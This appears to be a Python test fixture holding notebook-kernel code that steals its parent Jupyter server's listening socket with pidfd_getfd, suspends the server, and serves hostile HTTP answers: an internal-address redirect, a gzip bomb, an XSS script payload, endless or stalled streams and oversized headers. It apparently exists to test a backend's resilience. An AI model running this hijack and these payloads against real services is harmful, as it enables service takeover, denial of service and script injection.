"""Kernel code for tests: a notebook user who takes over their own instance's Jupyter port (process
backend). The kernel is the Jupyter server's child, same user: it duplicates the server's listening
socket with pidfd_getfd, SIGSTOPs the server (which stays "alive" for the backend's poll), and answers
every connection itself. GET /hostile/<mode> switches what /api/datalab/work answers; everything else
answers 200 {} (so /api/status probes pass). The tests send CODE with `.replace("CANARY", port)`."""

CODE = r"""
import ctypes, gzip, os, re, signal, socket, threading, time
ppid = os.getppid()
inodes = set()
for table in ('/proc/net/tcp', '/proc/net/tcp6'):
    try:
        rows = open(table).read().splitlines()[1:]
    except OSError:
        continue
    for row in rows:
        f = row.split()
        if f[3] == '0A':
            inodes.add(f[9])
libc = ctypes.CDLL(None, use_errno=True)
pidfd = os.pidfd_open(ppid)
stolen = []
for name in os.listdir(f'/proc/{ppid}/fd'):
    try:
        link = os.readlink(f'/proc/{ppid}/fd/{name}')
    except OSError:
        continue
    m = re.fullmatch(r'socket:\[(\d+)\]', link)
    if m and m.group(1) in inodes:
        fd = libc.syscall(438, pidfd, int(name), 0)
        if fd < 0:
            raise OSError(ctypes.get_errno(), 'pidfd_getfd')
        stolen.append(socket.socket(fileno=fd))
state = {'mode': 'endless'}
BOMB = gzip.compress(bytes(200 << 20), 9)

def answer(c, status, body=b'{}', extra=''):
    head = f'HTTP/1.1 {status}\r\nContent-Length: {len(body)}\r\nContent-Type: application/json\r\n'
    c.sendall(f'{head}{extra}Connection: close\r\n\r\n'.encode() + body)

def work(c, mode):
    if mode == 'redirect':
        answer(c, '302 Found', b'', 'Location: http://127.0.0.1:CANARY/internal/secret\r\n')
    elif mode == 'gzipenc':
        head = 'HTTP/1.1 200 OK\r\nContent-Type: application/gzip\r\nContent-Encoding: gzip\r\n'
        c.sendall(f'{head}Content-Length: {len(BOMB)}\r\nConnection: close\r\n\r\n'.encode() + BOMB)
    elif mode == 'html':
        answer(c, '200 OK', b'<script>alert(document.domain)</script>', 'Content-Type: text/html\r\n')
    elif mode == 'endless':
        c.sendall(b'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n')
        block = b'%x\r\n' % (1 << 16) + bytes(1 << 16) + b'\r\n'
        t0 = time.monotonic()
        while time.monotonic() - t0 < 400:
            c.sendall(block)
    elif mode == 'trickle':
        c.sendall(b'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n')
        for _ in range(400):
            c.sendall(b'1\r\nx\r\n')
            time.sleep(1)
    elif mode == 'slowok':
        c.sendall(b'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n')
        for _ in range(12):
            c.sendall(b'400\r\n' + b'y' * 1024 + b'\r\n')
            time.sleep(0.5)
        c.sendall(b'0\r\n\r\n')
    elif mode == 'nohead':
        time.sleep(400)
    elif mode == 'cut':
        c.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\nConnection: close\r\n\r\n' + b'x' * 100)
    elif mode == 'hugehead':
        c.sendall(b'HTTP/1.1 200 OK\r\n' + b'X-A: ' + b'a' * (4 << 20) + b'\r\n\r\n')
    elif mode == 'notfound':
        answer(c, '404 Not Found', b'{"message": "no"}')

def handle(c):
    try:
        c.settimeout(420)
        buf = b''
        while b'\r\n\r\n' not in buf:
            d = c.recv(65536)
            if not d:
                return
            buf += d
        line = buf.split(b'\r\n', 1)[0].decode('latin-1')
        path = line.split(' ')[1] if line.count(' ') >= 2 else '/'
        if path.startswith('/hostile/'):
            state['mode'] = path.split('/')[2]
            answer(c, '200 OK', ('mode ' + state['mode']).encode())
        elif path.startswith('/api/datalab/work'):
            work(c, state['mode'])
        else:
            answer(c, '200 OK')
    except OSError:
        pass
    finally:
        c.close()

def serve(s):
    s.setblocking(True)
    while True:
        c, _ = s.accept()
        threading.Thread(target=handle, args=(c,), daemon=True).start()

def takeover():
    time.sleep(2)
    os.kill(ppid, signal.SIGSTOP)
    for s in stolen:
        threading.Thread(target=serve, args=(s,), daemon=True).start()

threading.Thread(target=takeover, daemon=True).start()
print('stolen', len(stolen))
"""
